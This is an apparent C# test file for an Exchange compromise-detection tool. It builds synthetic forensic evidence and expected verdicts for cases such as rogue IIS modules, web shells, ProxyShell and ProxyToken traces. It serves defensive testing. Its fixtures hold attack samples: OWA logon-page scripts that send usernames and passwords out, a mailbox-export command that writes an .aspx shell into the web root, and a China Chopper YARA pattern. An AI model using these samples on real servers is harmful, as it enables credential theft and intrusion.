using System.Text;
using Breakwater.Accuracy.Tests.Evidence;
using static Breakwater.Accuracy.Tests.AccuracyCase;
using static Breakwater.Accuracy.Tests.Cases.Servers;
using static Breakwater.Model.ExposureState;
using static Breakwater.Model.VerdictState;

namespace Breakwater.Accuracy.Tests.Cases;

/// <summary>What other people hand in: traces of families, changed logon pages, kept configurations, other languages, notes and reports that only quote attacks.</summary>
internal static class OutsideCases
{
    private const string Theme = @"\FrontEnd\HttpProxy\owa\auth\15.1.2176\scripts\premium\flogon.js";
    private const string LogonPage = "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><body><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\">"
        + "<input id=\"username\" name=\"username\"><input id=\"password\" name=\"password\" type=\"password\"></form>";

    private const string Shows = "function clkLgn(){ if (gbid(\"rdoPrvt\").checked) { document.cookie = \"logondata=acc=1&lgn=\" + gbid(\"username\").value; } gbid(\"passwordText\").value = gbid(\"password\").value; }";
    private static readonly DateTime T = Intrusion2021;

    public static IEnumerable<AccuracyCase> All => Families.Concat(LogonPages).Concat(Quotes).Concat(People);

    private static IEnumerable<AccuracyCase> Families =>
    [
        Of("outside-module-of-a-family", () => March2021().Host("<add name=\"HttpParserModule\" image=\"%windir%\\System32\\inetsrv\\HTTPParser.dll\" />"), Shapes.Kape, Vulnerable, Compromised, 14)
            with { States = [("iis-modules", Compromised)], Must = ["iis-modules:persistence"] },
        Of("outside-managed-module-of-a-family", () => March2021().With(b => b.File(b.Install + @"\FrontEnd\HttpProxy\owa\web.config",
            "<configuration><system.webServer><modules><add name=\"OwaAuth\" type=\"Microsoft.Exchange.Clients.OwaAuth.Filter, Microsoft.Exchange.Clients.OwaAuth\" /></modules></system.webServer></configuration>")), Shapes.Velociraptor, Vulnerable, Compromised, 14)
            with { States = [("iis-modules", Compromised)] },
        Of("outside-modules-of-vendors", () => March2021().Host("<add name=\"Agent\" image=\"C:\\Program Files\\New Relic\\NewRelic.Profiler.dll\" /><add name=\"WafModule\" image=\"C:\\Program Files\\Vendor\\logging.dll\" /><add name=\"DuoIIS\" image=\"C:\\Program Files\\Duo Security\\IISModule.dll\" />"), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("outside-module-gone-but-in-the-history", () => March2021().Host("").Host("<add name=\"Stat\" image=\"C:\\Windows\\System32\\inetsrv\\TrafficHandler.dll\" />", copy: 4), Shapes.Kape, Vulnerable, Compromised, 14)
            with { Must = ["iis-modules:persistence"] },
        Of("outside-handler-for-pictures-in-the-history", () => March2021().Host("").Host("", "<add name=\"img\" path=\"*.png\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" />", copy: 7), Shapes.Kape, Vulnerable, Suspected, 13)
            with { Must = ["unattributed:persistence"] },
        Of("outside-agent-in-program-data", () => March2021().With(b => Agents(b, @"C:\ProgramData\Microsoft\cfh.dll")), Shapes.Kape, Vulnerable, Suspected, 13) with { States = [("transport-agents", Suspected)] },
        Of("outside-agent-of-a-vendor", () => March2021().With(b => Agents(b, @"C:\Program Files\Signature Vendor\Agent.dll")), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("outside-page-in-the-site-root", () => March2021().With(b => b.Use(T, "/aaa.aspx")), Shapes.Kape, Vulnerable, Suspected, 13) with { Must = ["unattributed:shellUsed"] },
        Of("outside-start-page-in-the-site-root", () => March2021().With(b => { b.Use(T, "/default.aspx"); b.FrontEnd(new Request(T, "GET", "/status.aspx")); }), Shapes.Kape, Vulnerable, NotFound, 10),
    ];

    private static IEnumerable<AccuracyCase> LogonPages =>
    [
        Of("outside-logon-page-sends-passwords", () => March2021().With(b => b.Page(b.Install + @"\FrontEnd\HttpProxy\owa\auth\logon.aspx",
            LogonPage + "<script>function clkLgn(){var u=document.getElementById('username').value;var p=document.getElementById('password').value;var d=btoa(u+':'+p);var x=new XMLHttpRequest();x.open('GET','/owa/auth/x.png?'+d,true);x.send();}</script></body></html>")),
            Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("owa-logon-page", Compromised)], Must = ["owa-logon-page:credentials"], MustNot = ["owa-logon-page:wroteFile"] },
        Of("outside-logon-script-sends-passwords", () => March2021().With(b => b.Page(b.Install + Theme,
            "function clkLgn(){ var data = escape(gbid(\"username\").value + \"\\t\" + gbid(\"password\").value) + \"&uin=\" + Math.random(); var h = new XMLHttpRequest(); h.open(\"POST\", \"/owa/auth/owaauth.aspx\", true); h.send(data); }")),
            Shapes.Mounted, Vulnerable, Compromised, 14) with { Must = ["owa-logon-page:credentials"] },
        Of("outside-logon-page-with-a-banner", () => March2021().With(b => { b.Page(b.Install + @"\FrontEnd\HttpProxy\owa\auth\logon.aspx", LogonPage + "<p>Willkommen. Hotline 4711</p><img src=\"logo.png\"></body></html>"); b.Page(b.Install + Theme, Shows); }),
            Shapes.Kape, Vulnerable, NotFound, 10),
    ];

    private static IEnumerable<AccuracyCase> Quotes =>
    [
        Of("outside-notes-quote-an-attack", () => March2021().With(b => b.File(@"C:\ir\notes.txt", $"Seen at another hospital: Set-OabVirtualDirectory.ExternalUrl='{Intrusions.Tag}', InternalUrl of OAB (Default Web Site) was left alone.")), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("outside-earlier-assessment", () => March2021().With(b => b.File(@"C:\ir\assessment.json", $"{{\"schema\":\"breakwater.assessment/1\",\"findings\":[{{\"excerpt\":\"ExternalUrl : {Intrusions.Tag.Replace("\"", "\\\"", StringComparison.Ordinal)}\",\"source\":\"VirtualDirectory\"}}]}}")),
            Shapes.Kape, Vulnerable, NotFound, 10) with { Says = ["INV003"] },
        Of("outside-a-mailbox-called-powershell", () => Late2022().With(b =>
        {
            var r = new Request(At(2022, 12, 1, 3, 0), "GET", "/autodiscover/autodiscover.json/v1.0/powershell@proseware.test") { Query = "Protocol=ActiveSync&RedirectCount=1", Client = "10.20.0.40", Agent = "Outlook-iOS/2.0" };
            b.FrontEnd(r);
            b.Proxy(Log.ProxyAutodiscover, r);
        }), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("outside-shell-rules-on-the-server", () => March2021().With(b => b.File(@"C:\Users\adm\Downloads\rules\shells.yar", "rule chopper { strings: $a = \"eval(Request\" condition: $a }")), Shapes.Kape, Vulnerable, NotFound, 10),
    ];

    private static IEnumerable<AccuracyCase> People =>
    [
        Of("outside-only-front-end-logs-in-august", () => August2021(new Box { Name = "EXMBX2", Domain = "hq.wingtip.test" }.Only(Log.FrontEnd)), Shapes.Kape, Vulnerable, NotFound, 10) with { States = [("proxytoken", NotFound), ("proxyshell", NotFound)] },
        Of("outside-only-proxy-logs-in-2020", () => March2020().With(b => b.Forget(Log.FrontEnd, DateTime.MinValue, DateTime.MaxValue)), Shapes.Kape, Vulnerable, NotFound, 10) with { States = [("cve-2020-0688", NotFound)] },
        Of("outside-french-system-account-reads-mail", () => August2021().With(b =>
        {
            foreach (var action in new[] { "FindFolder", "FindItem", "GetItem" })
            {
                b.Ews(At(2021, 8, 11, 3, 20), action, @"AUTORITE NT\Système", "python-requests/2.25.1", "directeur@wingtip.test");
            }
        }), Shapes.Kape, Vulnerable, Suspected, 13) with { States = [("proxylogon", Suspected), ("proxyshell", NotFound)], Mailboxes = ["directeur@wingtip.test=Taken"] },
        Of("outside-export-names-the-mailbox-by-alias", () => August2021().With(b =>
        {
            var at = At(2021, 8, 11, 3, 20);
            b.Ews(at, "CreateItem", @"NT AUTHORITY\SYSTEM", "python-requests/2.26.0", "j.sato@wingtip.test");
            b.RpsCmdlet(at.AddSeconds(40), @"WT\Administrator", "New-MailboxExportRequest", @"-Mailbox ""j.sato"" -FilePath ""\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\q.aspx""");
        }), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["proxyshell:wroteFile"], Mailboxes = ["j.sato@wingtip.test=Reachable"] },
        Of("outside-logs-spell-the-mailbox-differently", () => August2021().With(b =>
        {
            var at = At(2021, 8, 11, 3, 20);
            b.Ews(at, "CreateItem", @"NT AUTHORITY\SYSTEM", "python-requests/2.26.0", "J.Sato@wingtip.test");
            b.Ews(at.AddSeconds(5), "CreateItem", @"NT AUTHORITY\SYSTEM", "python-requests/2.26.0", "/o=Wingtip/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=0a1b2c3d4e5f60718293a4b5c6d7e8f9-j.sato");
            b.Ews(at.AddSeconds(9), "CreateItem", @"NT AUTHORITY\SYSTEM", "python-requests/2.26.0", @"WT\j.sato");
        }), Shapes.Kape, Vulnerable, Suspected, 13) with { Mailboxes = ["J.Sato@wingtip.test=Reachable"] },
        Of("outside-proxytoken-names-the-mailbox", () => August2021().With(b =>
        {
            foreach (var status in new[] { 500, 200 })
            {
                var r = new Request(At(2021, 8, 11, 3, 20, status / 100), "POST", "/ecp/victim@wingtip.test/RulesEditor/InboxRules.svc/NewObject") { Query = "msExchEcpCanary=x", Status = status, Client = "192.0.2.140" };
                b.FrontEnd(r);
                b.Proxy(Log.ProxyEcp, r);
            }
        }), Shapes.Kape, Vulnerable, Suspected, 13) with { States = [("proxytoken", Suspected)], Mailboxes = ["victim@wingtip.test=Reachable"] },
        Of("outside-german-system-account-probes-itself", () => March2021().With(b =>
        {
            for (var i = 0; i < 20; i++)
            {
                b.Ews(T.AddSeconds(i), "FindFolder", @"NT-AUTORITÄT\SYSTEM", "ExchangeServicesClient/15.01.2176.002", "");
            }
        }), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("outside-two-intruders", () => March2021().With(b => { b.ProxyLogon(T); b.ProxyLogon(T.AddDays(2), "/owa/auth/qz.aspx", "198.18.7.7"); }), Shapes.Kape, Vulnerable, Compromised, 14) with { Activities = 2 },
        Of("outside-one-intruder-from-two-addresses", () => March2021().With(b => { b.ProxyLogon(T); b.Use(T.AddMinutes(6), "/aspnet_client/iisx.aspx", "198.18.9.9"); }), Shapes.Kape, Vulnerable, Compromised, 14) with { Activities = 1 },
        Of("outside-removed-by-the-safety-scanner", () => new Box().GetExchangeServer("Version 15.1 (Build 2176.2)").With(b => b.File(@"C:\Windows\debug\msert.log", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(
            "Microsoft Safety Scanner v1.333, (build 1.333.600.0)\r\nStarted On Tue Mar 16 10:12:44 2021\r\nThreat Detected: Exploit:ASP/CVE-2021-27065 and Removed!\r\n  Action: Remove, Result: 0x00000000\r\n"
            + "    file://C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx\r\nResults Summary:\r\nFound Exploit:ASP/CVE-2021-27065 and Removed!\r\nReturn code: 6 (0x6)\r\n")])), Shapes.Flat, Vulnerable, Compromised, 14)
            with { Says = ["supp0rt.aspx", "Safety Scanner"] },
    ];

    /// <summary>A server that writes no other log than this one.</summary>
    private static Box Only(this Box box, Log only)
    {
        box.Off.UnionWith(Enum.GetValues<Log>().Except([only]));
        return box;
    }

    private static void Agents(Box box, string assembly) => box.File(box.Install + @"\TransportRoles\Shared\agents.config",
        $"<configuration><mexRuntime><agentList><agent name=\"Transport Rule Agent\" classFactory=\"F\" assemblyPath=\"{box.Install}\\TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll\" enabled=\"true\" />"
        + $"<agent name=\"Content Helper\" classFactory=\"A.F\" assemblyPath=\"{assembly}\" enabled=\"true\" /></agentList></mexRuntime></configuration>");
}
